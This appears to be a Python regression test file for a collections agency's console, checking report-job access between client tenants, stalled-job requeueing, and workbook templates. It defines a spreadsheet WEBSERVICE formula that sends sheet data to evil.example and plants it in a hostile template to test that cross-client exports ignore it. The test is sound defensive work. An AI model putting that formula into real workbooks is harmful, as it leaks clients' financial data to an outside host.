"""The console security review's findings on reports and jobs, as regressions (issue #16):
an agency's report of all its clients, run as a job under one client, is not that client's
people's to see, download or start again; a client's own workbook never wraps other clients'
figures; and a running job is started again only when it is stalled, once per stall."""

from __future__ import annotations

import csv
import io
import json

from openpyxl import Workbook, load_workbook

from shared.domain.people.authorisation import Role
from shared.services.console_jobs import JOBS_CONTAINER, JOBS_QUEUE
from tests.support.page_words import words
from tests.unit.api.conftest import World, invoice_row
from tests.unit.console.conftest import Browser, csrf_of, desk_for
from tests.unit.console.money_support import post_files, text, with_debtors, work_jobs
from tests.unit.people.conftest import Tenants

EXFIL = '=WEBSERVICE("https://evil.example/x?d="&ENCODEURL(TEXTJOIN(",",TRUE,Data!A1:H200)))'


def _all_clients_job(world: World, tenants: Tenants, fmt: str = "csv") -> tuple[Browser, str]:
    """An agency person's report of all its clients over 15 months (a job), worked; its path."""
    with_debtors(world, "C1", "D1")
    with_debtors(world, "C2", "D1")
    world.agency_a.call("POST", "/v1/clients/C2/invoices",
                        {"items": [invoice_row("SECRET-C2", "D1", amount="9999.00")]})  # fmt: skip
    agency = desk_for(world, Role.AGENCY_STAFF, None, "a@agency-a.example")
    token = csrf_of(agency.get(f"/reports?client={tenants.c1}"))
    started = agency.post(f"/reports?client={tenants.c1}", {
        "csrf": token, "do": "report", "kind": "open_collected", "start": "2024-01-01",
        "end": "2025-03-31", "format": fmt, "scope": "all"})  # fmt: skip
    assert started.status == 303
    assert work_jobs(world) == 1
    path = started.headers["Location"].removeprefix("/api/console").split("?")[0]
    return agency, path


def test_a_client_reader_neither_sees_nor_downloads_the_agencys_all_clients_job(
    world: World, tenants: Tenants
) -> None:
    agency, job = _all_clients_job(world, tenants)
    # the agency person who may read both clients has it, with both clients' figures
    assert job.removeprefix("/jobs/") in text(agency.get(f"/jobs?client={tenants.c1}"))
    file = agency.get(f"{job}/file?client={tenants.c1}")
    assert file.status == 200
    rows = list(csv.DictReader(io.StringIO(file.encoded().decode())))
    assert {r["opdrachtgever"] for r in rows} == {"C1", "C2"}  # queued from a Dutch desk
    # C1's own people (read-only and staff) get nothing of it: not listed, not found
    for role, email in ((Role.READ_ONLY, "r@c1.example"), (Role.CLIENT_STAFF, "s@c1.example")):
        person = desk_for(world, role, tenants.c1, email)
        assert job.removeprefix("/jobs/") not in text(person.get("/jobs?lang=en"))
        assert person.get(job).status == 404
        assert person.get(job + "/file").status == 404
        token = csrf_of(person.get("/jobs"))
        world.clock.advance(minutes=11)  # even when it would count as stalled
        requeued = person.post(job, {"csrf": token, "do": "requeue"})
        assert requeued.status == (403 if role is Role.READ_ONLY else 404)
        assert world.services.queues.take(JOBS_QUEUE) == []  # type: ignore[attr-defined]
        assert "9999" not in words(text(person.get(job + "/file")))


def test_a_job_written_before_jobs_named_their_clients_is_judged_by_its_input(
    world: World, tenants: Tenants
) -> None:
    """A report job row without its clients (kept from before): the input names them."""
    _, job = _all_clients_job(world, tenants)
    job_id = job.removeprefix("/jobs/")
    repo = world.services.console_jobs.jobs
    from shared.adapters.tables.keys import encode

    row = world.store.get("ConsoleJobs", encode(tenants.c1), job_id)
    assert row is not None
    row.data.pop("Clients")
    world.store.upsert("ConsoleJobs", row)
    assert repo.get(tenants.c1, job_id).clients == ()  # type: ignore[union-attr]
    reader = desk_for(world, Role.READ_ONLY, tenants.c1, "r@c1.example")
    assert reader.get(job + "/file").status == 404
    # and an input that names no clients shows the job to nobody
    world.services.files.put(JOBS_CONTAINER, f"{tenants.c1}/{job_id}/input", b"{}")
    agency = desk_for(world, Role.AGENCY_ADMIN, None, "boss@agency-a.example")
    assert agency.get(f"{job}?client={tenants.c1}").status == 404


def test_a_clients_own_report_job_stays_its_peoples(world: World, tenants: Tenants) -> None:
    with_debtors(world, "C1", "D1")
    staff = desk_for(world, Role.CLIENT_STAFF, tenants.c1, "s@c1.example")
    started = staff.post("/reports", {"csrf": csrf_of(staff.get("/reports")), "do": "report",
                                      "kind": "contact_log", "start": "2024-01-01",
                                      "end": "2025-03-01", "format": "csv"})  # fmt: skip
    job = started.headers["Location"].removeprefix("/api/console").split("?")[0]
    assert work_jobs(world) == 1
    reader = desk_for(world, Role.READ_ONLY, tenants.c1, "r@c1.example")
    assert job.removeprefix("/jobs/") in text(reader.get("/jobs"))
    assert reader.get(job + "/file").status == 200


def _hostile_template(world: World, tenants: Tenants) -> None:
    hostile = desk_for(world, Role.CLIENT_STAFF, tenants.c1, "evil@c1.example")
    book = Workbook()
    book.worksheets[0].title = "Voorblad"
    book["Voorblad"]["A1"] = EXFIL
    out = io.BytesIO()
    book.save(out)
    token = csrf_of(hostile.get("/reports"))
    saved = post_files(hostile, "/reports", {"csrf": token, "do": "template", "sheet": "Data"},
                       {"file": ("t.xlsx", out.getvalue())})  # fmt: skip
    assert saved.status == 303


def test_a_clients_workbook_never_wraps_other_clients_figures(
    world: World, tenants: Tenants
) -> None:
    with_debtors(world, "C1", "D1")
    with_debtors(world, "C2", "D1")
    world.agency_a.call("POST", "/v1/clients/C2/invoices",
                        {"items": [invoice_row("G1", "D1", amount="7.50")]})  # fmt: skip
    _hostile_template(world, tenants)
    agency = desk_for(world, Role.AGENCY_STAFF, None, "a@agency-a.example")
    token = csrf_of(agency.get(f"/reports?client={tenants.c1}"))
    ask = {"csrf": token, "do": "report", "kind": "open_collected", "start": "2025-01-01",
           "end": "2025-02-28", "format": "xlsx"}  # fmt: skip
    made = agency.post(f"/reports?client={tenants.c1}", {**ask, "scope": "all"})
    filled = load_workbook(io.BytesIO(made.encoded()))
    assert filled.sheetnames == ["Data"]  # a plain workbook: no sheet of the client's
    assert {r[0] for r in filled["Data"].iter_rows(min_row=2, values_only=True)} == {"C1", "C2"}
    # the same client alone still gets its own workbook
    own = load_workbook(io.BytesIO(agency.post(f"/reports?client={tenants.c1}", ask).encoded()))
    assert "Voorblad" in own.sheetnames
    assert {r[0] for r in own["Data"].iter_rows(min_row=2, values_only=True)} == {"C1"}


def test_the_all_clients_report_job_is_a_plain_workbook_too(world: World, tenants: Tenants) -> None:
    _hostile_template(world, tenants)
    agency, job = _all_clients_job(world, tenants, fmt="xlsx")
    filled = load_workbook(io.BytesIO(agency.get(f"{job}/file?client={tenants.c1}").encoded()))
    assert filled.sheetnames == ["Data"]


def test_a_running_job_is_started_again_only_when_stalled_and_once_per_stall(
    world: World, tenants: Tenants
) -> None:
    with_debtors(world, "C1", "D1")
    staff = desk_for(world, Role.CLIENT_STAFF, tenants.c1, "s@c1.example")
    token = csrf_of(staff.get("/reports"))
    started = staff.post("/reports", {"csrf": token, "do": "report", "kind": "contact_log",
                                      "start": "2023-01-01", "end": "2025-12-31", "format": "xlsx"})  # fmt: skip
    job = started.headers["Location"].removeprefix("/api/console").split("?")[0]
    queue = world.services.queues
    assert len(queue.take(JOBS_QUEUE)) == 1  # type: ignore[attr-defined]
    for _ in range(5):  # not stalled: refused, nothing queued
        assert staff.post(job, {"csrf": token, "do": "requeue"}).status == 409
    assert queue.take(JOBS_QUEUE) == []  # type: ignore[attr-defined]
    world.clock.advance(minutes=11)
    assert "Start again" in text(staff.get(job + "?lang=en"))
    assert staff.post(job, {"csrf": token, "do": "requeue"}).status == 303
    assert staff.post(job, {"csrf": token, "do": "requeue"}).status == 409  # once per stall
    sent = queue.take(JOBS_QUEUE)  # type: ignore[attr-defined]
    assert [json.loads(m.body)["job_id"] for m in sent] == [job.removeprefix("/jobs/")]
    assert "Start again" not in text(staff.get(job + "?lang=en"))
    world.clock.advance(minutes=11)  # stalled again: one more
    assert staff.post(job, {"csrf": token, "do": "requeue"}).status == 303
